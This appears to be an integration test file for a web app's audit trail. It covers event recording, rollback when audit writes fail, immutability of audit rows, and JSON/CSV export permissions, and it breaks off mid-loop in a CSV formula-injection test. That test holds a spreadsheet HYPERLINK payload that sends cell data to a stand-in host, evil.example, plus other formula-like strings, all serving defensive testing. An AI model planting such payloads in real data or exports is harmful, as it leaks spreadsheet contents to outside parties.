/**
 * The audit trail through the real app on both engines (SECURITY-BAR 16, 24): every write leaves
 * one event (actor, unit, entity, before, after, UTC time, the request's id) in the transaction
 * of the write — proved by making the audit insert fail and checking the write is undone —; a
 * refused write leaves nothing; the app's own connection cannot change or remove events; the
 * history and export endpoints, and formula-like CSV cells neutralised.
 */
import { randomUUID } from 'node:crypto';
import { sql } from 'kysely';
import { afterAll, beforeAll, expect, it } from 'vitest';
import type {
  ActionDetail,
  AuditEvent,
  ElementDetail,
  IndicatorDetail,
  Measurement,
  Problem,
  User,
  WorkspaceOverview,
} from '../../src/contracts/index.ts';
import type { Database } from '../../src/db/connection.ts';
import { systemPrincipal } from '../../src/domain/access.ts';
import { buildApp } from '../../src/http/app.ts';
import { csvCell } from '../../src/http/routes/audit.ts';
import { strataFromDatabase } from '../../src/services/runtime.ts';
import {
  IMT_DIR,
  TEST_PASSWORD,
  WEB_DIR,
  createAccount,
  signIn,
  type TestApp,
} from '../support/app.ts';
import { describeEachEngine } from '../support/engines.ts';

const ISO_UTC = /^\d{4}-\d{2}-\d{2}T\d{2}:\d{2}:\d{2}(\.\d{1,6})?Z$/;
const FORMULA_START = /^[=+\-@\t\r\0]/;

/** Parses RFC 4180 CSV (quoted cells, doubled quotes, CRLF). */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i += 1) {
    const ch = text[i] ?? '';
    if (quoted) {
      if (ch === '"' && text[i + 1] === '"') {
        cell += '"';
        i += 1;
      } else if (ch === '"') quoted = false;
      else cell += ch;
    } else if (ch === '"') quoted = true;
    else if (ch === ',') {
      row.push(cell);
      cell = '';
    } else if (ch === '\r' && text[i + 1] === '\n') {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
      i += 1;
    } else cell += ch;
  }
  if (cell !== '' || row.length > 0) {
    row.push(cell);
    rows.push(row);
  }
  return rows;
}

describeEachEngine('audit trail', (engine) => {
  let t: TestApp;
  let database: Database;
  const logLines: string[] = [];
  let overview: WorkspaceOverview;
  let admin = '';
  let adminId = '';
  let office = '';
  let officeId = '';
  let editor = '';
  let editorId = '';
  const requestIds = new Set<string>();

  const unitId = (code: string) => {
    const unit = overview.units.find((u) => u.code === code);
    if (!unit) throw new Error(`no unit ${code}`);
    return unit.id;
  };
  const groupUnitId = () => {
    const group = overview.units.find((u) => u.kind === 'group');
    if (!group) throw new Error('no group unit');
    return group.id;
  };

  /** One request, and the id Fastify gave it (read from the request's own log lines). */
  const call = async (
    method: 'GET' | 'POST' | 'PATCH' | 'PUT' | 'DELETE',
    url: string,
    options: { cookie?: string; payload?: object; headers?: Record<string, string> } = {},
  ) => {
    const from = logLines.length;
    const res = await t.app.inject({
      method,
      url,
      ...(options.payload && { payload: options.payload }),
      headers: { ...(options.cookie && { cookie: options.cookie }), ...options.headers },
    });
    const ids = new Set(
      logLines
        .slice(from)
        .map((line) => (JSON.parse(line) as { reqId?: string }).reqId)
        .filter((id): id is string => typeof id === 'string'),
    );
    expect(ids.size).toBe(1);
    const requestId = [...ids][0] ?? '';
    return { res, requestId };
  };

  const lastEventId = async () => {
    const row = await database.db
      .selectFrom('audit_event')
      .select(sql<number>`coalesce(max(id), 0)`.as('id'))
      .executeTakeFirstOrThrow();
    return row.id;
  };
  const eventsAfter = (id: number) =>
    database.db.selectFrom('audit_event').selectAll().where('id', '>', id).orderBy('id').execute();
  const countOf = async (
    table: 'audit_event' | 'action' | 'indicator' | 'measurement' | 'one_time_link' | 'app_user',
  ) => {
    const row = await database.db
      .selectFrom(table)
      .select(sql<number>`count(*)`.as('n'))
      .executeTakeFirstOrThrow();
    return row.n;
  };

  /** The one event a request wrote, checked for the fields every event must carry. */
  const onlyEvent = async (mark: number, requestId: string) => {
    const events = await eventsAfter(mark);
    expect(events).toHaveLength(1);
    const event = events[0];
    if (!event) throw new Error('no event');
    expect(event.request_id).toBe(requestId);
    // Fastify's ids are UUIDs, one per request: no two requests share one.
    if (!requestId.startsWith('cli-')) expect(requestId).toMatch(/^[0-9a-f-]{36}$/);
    expect(requestIds.has(requestId)).toBe(false);
    requestIds.add(requestId);
    expect(new Date(event.at).toISOString()).toMatch(ISO_UTC);
    return event;
  };

  const groupElement = async (index = 0) => {
    const scope = await t.strata.services.workspace.resolve('imt');
    const tree = await t.strata.services.views.tree(scope, overview.groupPlanId ?? '');
    const node = tree.nodes[index];
    if (!node) throw new Error('empty group plan');
    const detail = await call('GET', `/api/v1/elements/${node.id}`, { cookie: office });
    return detail.res.json<ElementDetail>();
  };

  let indicatorCount = 0;
  const newIndicator = async () => {
    indicatorCount += 1;
    const { res, requestId } = await call('POST', '/api/v1/indicators', {
      cookie: office,
      payload: {
        code: `AUDIT-IND-${indicatorCount}`,
        name: { fr: `Indicateur ${indicatorCount}`, en: `Indicator ${indicatorCount}` },
        direction: 'increase',
        frequency: 'year',
        ownerUnitId: unitId('IMT-ALES'),
        unitIds: [unitId('IMT-ALES')],
      },
    });
    expect(res.statusCode, res.body).toBe(201);
    return { ...res.json<IndicatorDetail>(), requestId };
  };

  let actionCount = 0;
  const newAction = async () => {
    actionCount += 1;
    const { res, requestId } = await call('POST', '/api/v1/actions', {
      cookie: editor,
      payload: {
        code: `AUDIT-ACT-${actionCount}`,
        title: { fr: `Action ${actionCount}`, en: `Action ${actionCount}` },
        leadUnitId: unitId('IMT-ALES'),
        startDate: '2026-01-01',
        dueDate: '2026-12-31',
      },
    });
    expect(res.statusCode, res.body).toBe(201);
    return { ...res.json<ActionDetail>(), requestId };
  };

  /** Makes the audit store refuse events of `entityType`/`action` while `work` runs. */
  const withAuditRefusing = async <T>(
    entityType: string,
    action: string,
    work: () => Promise<T>,
  ): Promise<T> => {
    await sql`INSERT INTO test_audit_veto (entity_type, action) VALUES (${entityType}, ${action})`.execute(
      database.db,
    );
    try {
      return await work();
    } finally {
      await sql`DELETE FROM test_audit_veto`.execute(database.db);
    }
  };

  beforeAll(async () => {
    database = await engine.open();
    const strata = await strataFromDatabase(database, IMT_DIR);
    const app = await buildApp({
      strata,
      workspace: 'imt',
      webDir: WEB_DIR,
      logger: {
        level: 'info',
        stream: {
          write: (line: string) => {
            logLines.push(line);
          },
        },
      },
    });
    await app.ready();
    t = {
      app,
      strata,
      database,
      close: async () => {
        await app.close();
        await strata.close();
      },
    };
    overview = await strata.services.workspace.overview(
      await strata.services.workspace.resolve('imt'),
    );
    // A test-only switch that makes the audit insert fail, to see whether the write is undone.
    await sql`CREATE TABLE test_audit_veto (entity_type text NOT NULL, action text NOT NULL)`.execute(
      database.db,
    );
    await sql
      .raw(
        `CREATE FUNCTION test_audit_veto() RETURNS trigger LANGUAGE plpgsql AS $$
BEGIN
  IF EXISTS (SELECT 1 FROM test_audit_veto v
             WHERE v.entity_type = NEW.entity_type AND v.action = NEW.action) THEN
    RAISE EXCEPTION 'audit store refused the event (test)';
  END IF;
  RETURN NEW;
END
$$`,
      )
      .execute(database.db);
    await sql`CREATE TRIGGER test_audit_veto BEFORE INSERT ON audit_event FOR EACH ROW EXECUTE FUNCTION test_audit_veto()`.execute(
      database.db,
    );
    adminId = await createAccount(t, { email: 'admin@imt.example', role: 'admin' });
    officeId = await createAccount(t, { email: 'office@imt.example', role: 'strategy_office' });
    editorId = await createAccount(t, {
      email: 'editor.ales@imt.example',
      role: 'unit_editor',
      unitCodes: ['IMT-ALES'],
    });
    admin = await signIn(t, 'admin@imt.example');
    office = await signIn(t, 'office@imt.example');
    editor = await signIn(t, 'editor.ales@imt.example');
  });
  afterAll(async () => {
    await t.close();
  });

  it('records an element update: actor, unit, entity, before and after, UTC time, request id', async () => {
    const element = await groupElement(0);
    const mark = await lastEventId();
    const { res, requestId } = await call('PATCH', `/api/v1/elements/${element.element.id}`, {
      cookie: office,
      payload: { lead: 'Direction de la stratégie (audit)' },
      headers: { 'if-match': element.etag },
    });
    expect(res.statusCode, res.body).toBe(200);
    const event = await onlyEvent(mark, requestId);
    expect(event).toMatchObject({
      actor_user_id: officeId,
      actor_label: 'office@imt.example',
      unit_id: groupUnitId(),
      entity_type: 'element',
      entity_id: element.element.id,
      action: 'update',
    });
    expect(event.before).toMatchObject({
      lead: element.element.lead,
      version: element.element.version,
    });
    expect(event.after).toMatchObject({
      lead: 'Direction de la stratégie (audit)',
      version: element.element.version + 1,
    });

    const history = await call('GET', `/api/v1/audit/element/${element.element.id}`, {
      cookie: editor,
    });
    expect(history.res.statusCode).toBe(200);
    const latest = history.res.json<{ items: AuditEvent[] }>().items[0];
    expect(latest).toMatchObject({
      action: 'update',
      actor: 'office@imt.example',
      actorUserId: officeId,
      entityType: 'element',
      entityId: element.element.id,
      requestId,
    });
    expect(latest?.at).toMatch(ISO_UTC);
    expect(latest?.after).toMatchObject({ lead: 'Direction de la stratégie (audit)' });
    const anonymous = await call('GET', `/api/v1/audit/element/${element.element.id}`);
    expect(anonymous.res.statusCode).toBe(401);
  });

  it('records indicator creation and update with the owner unit', async () => {
    let mark = await lastEventId();
    const created = await newIndicator();
    const createEvent = await onlyEvent(mark, created.requestId);
    expect(createEvent).toMatchObject({
      actor_user_id: officeId,
      actor_label: 'office@imt.example',
      unit_id: unitId('IMT-ALES'),
      entity_type: 'indicator',
      entity_id: created.indicator.id,
      action: 'create',
      before: null,
    });
    expect(createEvent.after).toMatchObject({ code: created.indicator.code });

    mark = await lastEventId();
    const { res, requestId } = await call('PATCH', `/api/v1/indicators/${created.indicator.id}`, {
      cookie: office,
      payload: { name: { fr: 'Indicateur renommé', en: 'Renamed indicator' } },
      headers: { 'if-match': created.etag },
    });
    expect(res.statusCode, res.body).toBe(200);
    const event = await onlyEvent(mark, requestId);
    expect(event).toMatchObject({
      actor_user_id: officeId,
      unit_id: unitId('IMT-ALES'),
      entity_type: 'indicator',
      entity_id: created.indicator.id,
      action: 'update',
    });
    expect(event.before).toMatchObject({ name_en: created.indicator.name.en });
    expect(event.after).toMatchObject({ name_en: 'Renamed indicator' });
  });

  it('records a figure and its correction, with the unit and both values', async () => {
    const indicator = await newIndicator();
    const url = `/api/v1/indicators/${indicator.indicator.id}/measurements`;
    const ales = unitId('IMT-ALES');
    let mark = await lastEventId();
    const first = await call('POST', url, {
      cookie: editor,
      payload: { unitId: ales, period: '2026', value: 40, provenance: 'estimated' },
    });
    expect(first.res.statusCode, first.res.body).toBe(201);
    const recorded = await onlyEvent(mark, first.requestId);
    expect(recorded).toMatchObject({
      actor_user_id: editorId,
      actor_label: 'editor.ales@imt.example',
      unit_id: ales,
      entity_type: 'measurement',
      entity_id: first.res.json<Measurement>().id,
      action: 'record',
      before: null,
    });
    expect(recorded.after).toMatchObject({ value: 40, period: '2026' });

    mark = await lastEventId();
    const fix = await call('POST', url, {
      cookie: editor,
      payload: { unitId: ales, period: '2026', value: 42, provenance: 'official', note: 'typo' },
      headers: { 'if-match': first.res.json<Measurement>().etag },
    });
    expect(fix.res.statusCode, fix.res.body).toBe(201);
    const corrected = await onlyEvent(mark, fix.requestId);
    expect(corrected).toMatchObject({ unit_id: ales, action: 'correct', actor_user_id: editorId });
    expect(corrected.before).toMatchObject({ value: 40, provenance: 'estimated' });
    expect(corrected.after).toMatchObject({ value: 42, provenance: 'official', note: 'typo' });
  });

  it('records action creation and update with the lead unit', async () => {
    let mark = await lastEventId();
    const action = await newAction();
    const created = await onlyEvent(mark, action.requestId);
    expect(created).toMatchObject({
      actor_user_id: editorId,
      unit_id: unitId('IMT-ALES'),
      entity_type: 'action',
      entity_id: action.action.id,
      action: 'create',
    });

    mark = await lastEventId();
    const { res, requestId } = await call('PATCH', `/api/v1/actions/${action.action.id}`, {
      cookie: editor,
      payload: { progress: 35, state: 'in_progress' },
      headers: { 'if-match': action.etag },
    });
    expect(res.statusCode, res.body).toBe(200);
    const updated = await onlyEvent(mark, requestId);
    expect(updated).toMatchObject({ entity_id: action.action.id, action: 'update' });
    expect(updated.before).toMatchObject({ progress: 0, state: 'planned' });
    expect(updated.after).toMatchObject({ progress: 35, state: 'in_progress' });
  });

  it('records account creation (invitation, acceptance, direct), update and disabling', async () => {
    let mark = await lastEventId();
    const invite = await call('POST', '/api/v1/users/invitations', {
      cookie: admin,
      payload: { email: 'invitee@imt.example', role: 'contributor', unitIds: [unitId('IMT-ALES')] },
    });
    expect(invite.res.statusCode, invite.res.body).toBe(201);
    const invited = await onlyEvent(mark, invite.requestId);
    expect(invited).toMatchObject({
      actor_user_id: adminId,
      entity_type: 'invitation',
      action: 'create',
    });

    mark = await lastEventId();
    const accept = await call('POST', '/api/v1/auth/invitation', {
      payload: { token: invite.res.json<{ token: string }>().token, password: TEST_PASSWORD },
    });
    expect(accept.res.statusCode, accept.res.body).toBe(200);
    const accepted = await onlyEvent(mark, accept.requestId);
    const invitee = await database.db
      .selectFrom('app_user')
      .select('id')
      .where('email', '=', 'invitee@imt.example')
      .executeTakeFirstOrThrow();
    expect(accepted).toMatchObject({
      actor_user_id: invitee.id,
      actor_label: 'invitee@imt.example',
      entity_type: 'user',
      entity_id: invitee.id,
      action: 'accept_invitation',
    });
    expect(accepted.after).toMatchObject({ email: 'invitee@imt.example', role: 'contributor' });

    mark = await lastEventId();
    const scope = await t.strata.services.workspace.resolve(
      'imt',
      systemPrincipal('cli:ops'),
      'cli-run-1',
    );
    const direct = await t.strata.services.users.create(scope, {
      email: 'direct@imt.example',
      role: 'governance',
    });
    const createdEvent = await onlyEvent(mark, 'cli-run-1');
    expect(createdEvent).toMatchObject({
      actor_user_id: null,
      actor_label: 'cli:ops',
      entity_type: 'user',
      entity_id: direct.id,
      action: 'create',
    });

    const etag = (
      await call('GET', `/api/v1/users/${direct.id}`, { cookie: admin })
    ).res.json<User>().etag;
    mark = await lastEventId();
    const update = await call('PATCH', `/api/v1/users/${direct.id}`, {
      cookie: admin,
      payload: { role: 'strategy_office' },
      headers: { 'if-match': etag },
    });
    expect(update.res.statusCode, update.res.body).toBe(200);
    const updated = await onlyEvent(mark, update.requestId);
    expect(updated).toMatchObject({
      actor_user_id: adminId,
      entity_type: 'user',
      entity_id: direct.id,
      action: 'update',
    });
    expect(updated.before).toMatchObject({ role: 'governance', disabled: false });
    expect(updated.after).toMatchObject({ role: 'strategy_office', disabled: false });

    mark = await lastEventId();
    const disable = await call('PATCH', `/api/v1/users/${direct.id}`, {
      cookie: admin,
      payload: { disabled: true },
      headers: { 'if-match': update.res.json<User>().etag },
    });
    expect(disable.res.statusCode, disable.res.body).toBe(200);
    const disabled = await onlyEvent(mark, disable.requestId);
    expect(disabled).toMatchObject({ entity_id: direct.id, action: 'disable' });
    expect(disabled.before).toMatchObject({ disabled: false });
    expect(disabled.after).toMatchObject({ disabled: true });
  });

  // Regression test for a bug fixed in the same change.
  it('records the units an account had before a change of units', async () => {
    const id = await createAccount(t, {
      email: 'mover@imt.example',
      role: 'unit_editor',
      unitCodes: ['IMT-ALES'],
    });
    const etag = (await call('GET', `/api/v1/users/${id}`, { cookie: admin })).res.json<User>()
      .etag;
    const mark = await lastEventId();
    const moved = await call('PATCH', `/api/v1/users/${id}`, {
      cookie: admin,
      payload: { unitIds: [unitId('IMT-ATL')] },
      headers: { 'if-match': etag },
    });
    expect(moved.res.statusCode, moved.res.body).toBe(200);
    const event = await onlyEvent(mark, moved.requestId);
    expect(event.after).toMatchObject({ unitIds: [unitId('IMT-ATL')] });
    expect(event.before).toMatchObject({ unitIds: [unitId('IMT-ALES')] });
  });

  it('records token creation and revocation without the secret, and logins', async () => {
    let mark = await lastEventId();
    const create = await call('POST', '/api/v1/auth/tokens', {
      cookie: office,
      payload: { name: 'bi export', scope: 'read', expiresInDays: 30 },
    });
    expect(create.res.statusCode, create.res.body).toBe(201);
    const { token, id } = create.res.json<{ token: string; id: string }>();
    const created = await onlyEvent(mark, create.requestId);
    expect(created).toMatchObject({
      actor_user_id: officeId,
      entity_type: 'api_token',
      entity_id: id,
      action: 'create',
    });
    expect(created.after).toMatchObject({ name: 'bi export', scope: 'read' });
    expect(JSON.stringify(created)).not.toContain(token.slice('strata_'.length));

    mark = await lastEventId();
    const revoke = await call('DELETE', `/api/v1/auth/tokens/${id}`, { cookie: office });
    expect(revoke.res.statusCode).toBe(200);
    expect(await onlyEvent(mark, revoke.requestId)).toMatchObject({
      actor_user_id: officeId,
      entity_type: 'api_token',
      entity_id: id,
      action: 'revoke',
    });

    mark = await lastEventId();
    const login = await call('POST', '/api/v1/auth/login', {
      payload: { email: 'office@imt.example', password: TEST_PASSWORD },
    });
    expect(login.res.statusCode).toBe(200);
    expect(await onlyEvent(mark, login.requestId)).toMatchObject({
      actor_user_id: officeId,
      actor_label: 'office@imt.example',
      entity_type: 'session',
      action: 'login',
    });
    const all = JSON.stringify(await eventsAfter(0));
    expect(all).not.toContain('$argon2');
    expect(all).not.toContain(TEST_PASSWORD);
    expect(all).not.toContain(login.res.cookies[0]?.value ?? 'no cookie');
  });

  it('leaves no event and no change when a write is refused by validation', async () => {
    const element = await groupElement(1);
    const action = await newAction();
    const indicator = await newIndicator();
    const ghost = randomUUID();
    const counts = async () => ({
      audit: await countOf('audit_event'),
      action: await countOf('action'),
      indicator: await countOf('indicator'),
      measurement: await countOf('measurement'),
      link: await countOf('one_time_link'),
      user: await countOf('app_user'),
    });
    const before = await counts();
    const refusals = [
      await call('PATCH', `/api/v1/elements/${element.element.id}`, {
        cookie: office,
        payload: { lead: 'half written', version: 99 },
        headers: { 'if-match': element.etag },
      }),
      await call('PATCH', `/api/v1/elements/${element.element.id}`, {
        cookie: office,
        payload: { lead: 'half written', facetValueIds: [ghost] },
        headers: { 'if-match': element.etag },
      }),
      await call('POST', '/api/v1/actions', {
        cookie: office,
        payload: {
          code: 'AUDIT-HALF',
          title: { fr: 'Moitié', en: 'Half' },
          leadUnitId: unitId('IMT-ALES'),
          elementIds: [ghost],
        },
      }),
      await call('PATCH', `/api/v1/actions/${action.action.id}`, {
        cookie: office,
        payload: { progress: 80, dueDate: '2025-01-01' },
        headers: { 'if-match': action.etag },
      }),
      await call('POST', '/api/v1/indicators', {
        cookie: office,
        payload: {
          code: 'AUDIT-HALF',
          name: { fr: 'Moitié', en: 'Half' },
          direction: 'increase',
          frequency: 'year',
          unitIds: [unitId('IMT-ALES'), ghost],
        },
      }),
      await call('PATCH', `/api/v1/indicators/${indicator.indicator.id}`, {
        cookie: office,
        payload: { name: { fr: 'Moitié', en: 'Half' }, elementIds: [ghost] },
        headers: { 'if-match': indicator.etag },
      }),
      await call('POST', `/api/v1/indicators/${indicator.indicator.id}/measurements`, {
        cookie: office,
        payload: {
          unitId: unitId('IMT-ALES'),
          period: '2026-Q1',
          value: 1,
          provenance: 'estimated',
        },
      }),
      await call('POST', '/api/v1/users/invitations', {
        cookie: admin,
        payload: { email: 'half@imt.example', role: 'unit_editor', unitIds: [ghost] },
      }),
      await call('PATCH', `/api/v1/users/${editorId}`, {
        cookie: admin,
        payload: { role: 'governance', unitIds: [ghost] },
        headers: {
          'if-match': (
            await call('GET', `/api/v1/users/${editorId}`, { cookie: admin })
          ).res.json<User>().etag,
        },
      }),
    ];
    expect(refusals.map((r) => r.res.statusCode)).toEqual(refusals.map(() => 400));
    expect(await counts()).toEqual(before);
    const elementNow = await groupElement(1);
    expect(elementNow.element.version).toBe(element.element.version);
    expect(elementNow.element.lead).toBe(element.element.lead);
    const actionNow = await call('GET', `/api/v1/actions/${action.action.id}`, { cookie: office });
    expect(actionNow.res.json<ActionDetail>().action).toMatchObject({
      progress: 0,
      version: action.action.version,
    });
    const indicatorNow = await call('GET', `/api/v1/indicators/${indicator.indicator.id}`, {
      cookie: office,
    });
    expect(indicatorNow.res.json<IndicatorDetail>().indicator.version).toBe(
      indicator.indicator.version,
    );
    const editorNow = await call('GET', `/api/v1/users/${editorId}`, { cookie: admin });
    expect(editorNow.res.json<User>()).toMatchObject({
      role: 'unit_editor',
      unitIds: [unitId('IMT-ALES')],
    });
  });

  it.each([
    ['element update', 'element', 'update'],
    ['indicator creation', 'indicator', 'create'],
    ['indicator update', 'indicator', 'update'],
    ['figure recording', 'measurement', 'record'],
    ['action creation', 'action', 'create'],
    ['action update', 'action', 'update'],
    ['account update', 'user', 'update'],
    ['account disabling', 'user', 'disable'],
    ['invitation acceptance', 'user', 'accept_invitation'],
  ])('undoes the %s when its audit event cannot be written', async (label, entity, action) => {
    const element = await groupElement(2);
    const indicator = await newIndicator();
    const act = await newAction();
    const target = randomUUID().slice(0, 8);
    const userId = await createAccount(t, {
      email: `target-${target}@imt.example`,
      role: 'unit_editor',
      unitCodes: ['IMT-ALES'],
    });
    const targetCookie = await signIn(t, `target-${target}@imt.example`);
    const userEtag = (
      await call('GET', `/api/v1/users/${userId}`, { cookie: admin })
    ).res.json<User>().etag;
    const invitation = (
      await call('POST', '/api/v1/users/invitations', {
        cookie: admin,
        payload: { email: `invitee-${target}@imt.example`, role: 'governance' },
      })
    ).res.json<{ token: string }>().token;
    const counts = async () => ({
      audit: await countOf('audit_event'),
      action: await countOf('action'),
      indicator: await countOf('indicator'),
      measurement: await countOf('measurement'),
      user: await countOf('app_user'),
    });
    const before = await counts();
    const attempts: Record<string, () => ReturnType<typeof call>> = {
      'element update': () =>
        call('PATCH', `/api/v1/elements/${element.element.id}`, {
          cookie: office,
          payload: { lead: 'not audited' },
          headers: { 'if-match': element.etag },
        }),
      'indicator creation': () =>
        call('POST', '/api/v1/indicators', {
          cookie: office,
          payload: {
            code: `UNAUDITED-${target}`,
            name: { fr: 'Non audité', en: 'Not audited' },
            direction: 'increase',
            frequency: 'year',
          },
        }),
      'indicator update': () =>
        call('PATCH', `/api/v1/indicators/${indicator.indicator.id}`, {
          cookie: office,
          payload: { name: { fr: 'Non audité', en: 'Not audited' } },
          headers: { 'if-match': indicator.etag },
        }),
      'figure recording': () =>
        call('POST', `/api/v1/indicators/${indicator.indicator.id}/measurements`, {
          cookie: office,
          payload: {
            unitId: unitId('IMT-ALES'),
            period: '2027',
            value: 3,
            provenance: 'estimated',
          },
        }),
      'action creation': () =>
        call('POST', '/api/v1/actions', {
          cookie: office,
          payload: {
            code: `UNAUDITED-${target}`,
            title: { fr: 'Non auditée', en: 'Not audited' },
            leadUnitId: unitId('IMT-ALES'),
          },
        }),
      'action update': () =>
        call('PATCH', `/api/v1/actions/${act.action.id}`, {
          cookie: office,
          payload: { progress: 90 },
          headers: { 'if-match': act.etag },
        }),
      'account update': () =>
        call('PATCH', `/api/v1/users/${userId}`, {
          cookie: admin,
          payload: { role: 'strategy_office' },
          headers: { 'if-match': userEtag },
        }),
      'account disabling': () =>
        call('PATCH', `/api/v1/users/${userId}`, {
          cookie: admin,
          payload: { disabled: true },
          headers: { 'if-match': userEtag },
        }),
      'invitation acceptance': () =>
        call('POST', '/api/v1/auth/invitation', {
          payload: { token: invitation, password: TEST_PASSWORD },
        }),
    };
    const attempt = attempts[label];
    if (!attempt) throw new Error(`no attempt for ${label}`);
    const { res } = await withAuditRefusing(entity, action, attempt);
    expect(res.statusCode).toBe(500);
    expect(res.body).not.toContain('audit store refused');
    expect(await counts()).toEqual(before);
    expect((await groupElement(2)).element.version).toBe(element.element.version);
    const indicatorNow = await call('GET', `/api/v1/indicators/${indicator.indicator.id}`, {
      cookie: office,
    });
    expect(indicatorNow.res.json<IndicatorDetail>().indicator.version).toBe(
      indicator.indicator.version,
    );
    const actionNow = await call('GET', `/api/v1/actions/${act.action.id}`, { cookie: office });
    expect(actionNow.res.json<ActionDetail>().action.version).toBe(act.action.version);
    const userNow = await call('GET', `/api/v1/users/${userId}`, { cookie: admin });
    expect(userNow.res.json<User>()).toMatchObject({ role: 'unit_editor', disabled: false });
    const me = await call('GET', '/api/v1/auth/me', { cookie: targetCookie });
    expect(me.res.json<{ authenticated: boolean }>().authenticated).toBe(true);
    // The invitation link was not used up: it still opens the account once the audit works.
    if (label === 'invitation acceptance') {
      const retry = await call('POST', '/api/v1/auth/invitation', {
        payload: { token: invitation, password: TEST_PASSWORD },
      });
      expect(retry.res.statusCode).toBe(200);
    }
  });

  // Regression test for a bug fixed in the same change.
  it('undoes a token creation when its audit event cannot be written', async () => {
    const tokens = async () => {
      const row = await database.db
        .selectFrom('api_token')
        .select(sql<number>`count(*)`.as('n'))
        .executeTakeFirstOrThrow();
      return row.n;
    };
    const before = await tokens();
    const { res } = await withAuditRefusing('api_token', 'create', () =>
      call('POST', '/api/v1/auth/tokens', {
        cookie: office,
        payload: { name: 'not audited', scope: 'write', expiresInDays: 30 },
      }),
    );
    expect(res.statusCode).toBe(500);
    expect(await tokens()).toBe(before);
  });

  // Regression test for a bug fixed in the same change.
  it('undoes a token revocation when its audit event cannot be written', async () => {
    const created = await call('POST', '/api/v1/auth/tokens', {
      cookie: office,
      payload: { name: 'kept', scope: 'read', expiresInDays: 30 },
    });
    const { token, id } = created.res.json<{ token: string; id: string }>();
    const { res } = await withAuditRefusing('api_token', 'revoke', () =>
      call('DELETE', `/api/v1/auth/tokens/${id}`, { cookie: office }),
    );
    expect(res.statusCode).toBe(500);
    const use = await call('GET', '/api/v1/auth/me', {
      headers: { authorization: `Bearer ${token}` },
    });
    expect(use.res.statusCode).toBe(200);
  });

  // Regression test for a bug fixed in the same change.
  it('opens no session when the login cannot be audited', async () => {
    const sessions = async () => {
      const row = await database.db
        .selectFrom('auth_session')
        .select(sql<number>`count(*)`.as('n'))
        .where('user_id', '=', officeId)
        .executeTakeFirstOrThrow();
      return row.n;
    };
    const before = await sessions();
    const { res } = await withAuditRefusing('session', 'login', () =>
      call('POST', '/api/v1/auth/login', {
        payload: { email: 'office@imt.example', password: TEST_PASSWORD },
      }),
    );
    expect(res.statusCode).toBe(500);
    expect(await sessions()).toBe(before);
  });

  // Regression test for a bug fixed in the same change.
  it('keeps the old password when the change cannot be audited', async () => {
    await createAccount(t, { email: 'changer@imt.example', role: 'governance' });
    const cookie = await signIn(t, 'changer@imt.example');
    const { res } = await withAuditRefusing('user', 'change_password', () =>
      call('POST', '/api/v1/auth/password', {
        cookie,
        payload: { current: TEST_PASSWORD, next: 'an unaudited passphrase 11' },
      }),
    );
    expect(res.statusCode).toBe(500);
    const login = await call('POST', '/api/v1/auth/login', {
      payload: { email: 'changer@imt.example', password: TEST_PASSWORD },
    });
    expect(login.res.statusCode).toBe(200);
  });

  it("refuses UPDATE, DELETE and TRUNCATE of audit rows through the app's own connection", async () => {
    const snapshot = async () =>
      database.db
        .selectFrom('audit_event')
        .select(['id', 'actor_label', 'action', 'request_id'])
        .orderBy('id')
        .execute();
    const login = await call('POST', '/api/v1/auth/login', {
      payload: { email: 'office@imt.example', password: TEST_PASSWORD },
    });
    expect(login.res.statusCode).toBe(200);
    const before = await snapshot();
    expect(before.some((e) => e.action === 'login')).toBe(true);
    const refused = /audit_event rows cannot be updated or deleted/;
    await expect(
      sql`UPDATE audit_event SET actor_label = 'forged'`.execute(database.db),
    ).rejects.toThrow(refused);
    await expect(
      sql`UPDATE audit_event SET after = NULL WHERE id = ${before.at(-1)?.id ?? 0}`.execute(
        database.db,
      ),
    ).rejects.toThrow(refused);
    await expect(sql`DELETE FROM audit_event`.execute(database.db)).rejects.toThrow(refused);
    await expect(
      database.db.deleteFrom('audit_event').where('action', '=', 'login').execute(),
    ).rejects.toThrow(refused);
    await expect(sql`TRUNCATE audit_event`.execute(database.db)).rejects.toThrow(refused);
    await expect(
      database.db.transaction().execute(async (trx) => {
        await sql`DELETE FROM audit_event WHERE action = 'update'`.execute(trx);
      }),
    ).rejects.toThrow(refused);
    expect(await snapshot()).toEqual(before);
  });

  it('exports the trail as JSON and CSV to the strategy office only', async () => {
    const json = await call('GET', '/api/v1/audit', { cookie: office });
    expect(json.res.statusCode).toBe(200);
    const items = json.res.json<{ items: AuditEvent[] }>().items;
    expect(items.length).toBe(await countOf('audit_event'));
    expect(items.map((i) => i.id)).toEqual([...items.map((i) => i.id)].sort((a, b) => a - b));
    for (const item of items) expect(item.at).toMatch(ISO_UTC);
    expect(items.some((i) => i.entityType === 'element' && i.action === 'update')).toBe(true);

    const csv = await call('GET', '/api/v1/audit.csv', { cookie: office });
    expect(csv.res.statusCode).toBe(200);
    expect(csv.res.headers['content-type']).toMatch(/^text\/csv/);
    expect(csv.res.headers['content-disposition']).toMatch(/attachment/);
    expect(csv.res.body.startsWith('\ufeff')).toBe(true);
    const rows = parseCsv(csv.res.body.slice(1));
    expect(rows[0]).toEqual([
      'id',
      'at',
      'actor',
      'actorUserId',
      'unitId',
      'entityType',
      'entityId',
      'action',
      'before',
      'after',
      'requestId',
    ]);
    expect(rows.length - 1).toBe(items.length);

    for (const url of ['/api/v1/audit', '/api/v1/audit.csv']) {
      const asEditor = await call('GET', url, { cookie: editor });
      expect(asEditor.res.statusCode).toBe(403);
      expect(asEditor.res.body).not.toContain('office@imt.example');
      expect((await call('GET', url)).res.statusCode).toBe(401);
    }
  });

  it('neutralises CSV cells that a spreadsheet would read as a formula', async () => {
    const element = await groupElement(3);
    const lead = '=HYPERLINK("https://evil.example/?leak="&A1,"click")';
    const patched = await call('PATCH', `/api/v1/elements/${element.element.id}`, {
      cookie: office,
      payload: { lead },
      headers: { 'if-match': element.etag },
    });
    expect(patched.res.statusCode, patched.res.body).toBe(200);
    // Formula-like actors, request ids and entity ids (as the CLI or an invitation can write them).
    const hostile = ['=1+2', '+1+2', '-1+2', '@SUM(1,2)', '\t=1+2', '\r=1+2'];
    for (const [i, label] of hostile.entries()) {
      const scope = await t.strata.services.workspace.resolve('imt', systemPrincipal(label), label);
      await t.strata.services.users.create(scope, {
        email: `csv${i}@imt.example`,
        role: 'governance',
      });
    }
    for (const email of ['=cmd@evil.example', '+cmd@evil.example', '-cmd@evil.example']) {
